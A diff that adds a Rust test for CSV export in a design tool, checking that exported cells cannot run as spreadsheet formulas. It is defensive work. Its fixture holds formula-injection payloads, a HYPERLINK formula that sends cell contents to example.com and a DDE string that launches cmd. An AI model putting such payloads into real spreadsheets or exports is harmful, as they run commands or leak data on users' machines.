@@ -678,3 +678,47 @@ fn broken_drawio_files_are_refused_with_their_place() {
     }
     assert_eq!(std::fs::read_dir(&dir).expect("dir").count(), cases.len());
 }
+
+/// A design whose names, purposes and notes start the way spreadsheet formulas do.
+fn formulas() -> Design {
+    let mut d = model::parse(patchbay::samples::ALL[3].text).expect("startup");
+    d.systems[0].name = "=HYPERLINK(\"https://example.com/?\"&A1,\"open\")".into();
+    d.systems[1].name = "+cmd|' /C calc'!A0".into();
+    d.links[0].purpose = "-2+3".into();
+    d.links[0].notes = "@SUM(1+1)".into();
+    d.links[1].purpose = "\tTabbed".into();
+    d.links[1].notes = "'=already guarded by hand".into();
+    d
+}
+
+#[test]
+fn no_catalogue_cell_runs_as_a_formula_and_every_one_comes_back() {
+    let dir = tempfile::tempdir().expect("temp dir");
+    let mut designs: Vec<Design> = patchbay::samples::ALL
+        .iter()
+        .map(|s| model::parse(s.text).expect("sample"))
+        .collect();
+    designs.push(formulas());
+    designs.push(hostile());
+    for (i, d) in designs.iter().enumerate() {
+        let csv = String::from_utf8(export(d, &analyze(d), ExportFormat::Csv, 1.0).expect("csv"))
+            .expect("utf-8");
+        let path = dir.path().join(format!("{i}.csv"));
+        std::fs::write(&path, &csv).expect("write");
+        // Python's csv module reads every cell as a spreadsheet would get it.
+        let out = std::process::Command::new("/usr/bin/python3")
+            .arg("-c")
+            .arg(
+                "import csv,sys\n\
+                 bad=[c for row in csv.reader(open(sys.argv[1],newline='',encoding='utf-8')) for c in row if c[:1] in ('=','+','-','@','\\t','\\r')]\n\
+                 print(len(bad)); [print(repr(c)) for c in bad]",
+            )
+            .arg(&path)
+            .output()
+            .expect("python3 runs");
+        let said = String::from_utf8_lossy(&out.stdout);
+        assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
+        assert_eq!(said.lines().next(), Some("0"), "design {i}: formula cells:\n{said}");
+        assert_eq!(catalogue_view(&round_trip(d)), catalogue_view(d), "design {i}");
+    }
+}
